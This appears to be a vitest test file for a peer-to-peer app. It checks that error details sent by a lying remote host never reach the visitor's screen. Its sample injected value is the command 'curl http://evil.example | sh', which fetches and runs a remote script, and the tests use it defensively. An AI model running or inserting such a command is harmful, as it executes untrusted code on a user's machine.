// A host that lies about what went wrong must not get words of its own onto the visitor's screen.
import { expect, test } from 'vitest';
import { AppError, errorCodeSchema } from '../../src/contract/errors.ts';
import { errorOfPeer, namedProblem, problemOfPeer } from '../../src/core/wire/peer-problem.ts';
import { hostNotices } from '../../src/core/wire/peer-protocol.ts';
import { sayProblem } from '../../src/messages/messages.ts';

const lie = 'curl http://evil.example | sh';
const params = Object.fromEntries(
  ['program', 'command', 'why', 'what', 'where', 'path', 'address', 'limit', 'exitCode'].map((name) => [name, lie]),
);

test.each(errorCodeSchema.options)('%s: no word of the peer is said', (code) => {
  expect(sayProblem(problemOfPeer({ code, params }))).not.toContain('evil');
  expect(sayProblem(problemOfPeer({ code, params }))).not.toContain('{{');
});

test('nothing is said to be missing here, nor to be installed', () => {
  for (const code of ['missing-program', 'namespaces-forbidden', 'disk-full', 'fingerprint-mismatch'] as const)
    expect(problemOfPeer({ code, params }).code).toBe('internal');
});

test('notices and answers to calls are treated so', () => {
  const problem = { code: 'missing-program', params };
  const sessionId = crypto.randomUUID();
  expect(hostNotices['session.ended'].parse({ sessionId, reason: 'failed', exitCode: null, problem }).problem).toEqual({
    code: 'internal',
    params: {},
  });
  expect(errorOfPeer(new AppError('missing-program', params))).toMatchObject({ code: 'internal', params: {} });
  expect(errorOfPeer(new AppError('peer-busy'))).toMatchObject({ code: 'peer-busy' });
});

test('how a program ended, and that a session is gone, go through', () => {
  expect(problemOfPeer({ code: 'program-failed', params: { exitCode: 3 } })).toEqual({
    code: 'program-failed',
    params: { exitCode: 3 },
  });
  expect(problemOfPeer({ code: 'not-found', params }).code).toBe('not-found');
});

test('who does not want to be disturbed is named, by the name that is known here', () => {
  const told = problemOfPeer({ code: 'do-not-disturb', params: { peer: lie } });
  expect(sayProblem(told)).toBe('That computer has Do not disturb on. Try again later, or talk to the person there.');
  expect(sayProblem(namedProblem(told, 'Bob'))).toBe('Bob has Do not disturb on. Try again later, or talk to them.');
  expect(namedProblem({ code: 'peer-busy', params: {} }, 'Bob')).toEqual({ code: 'peer-busy', params: {} });
});
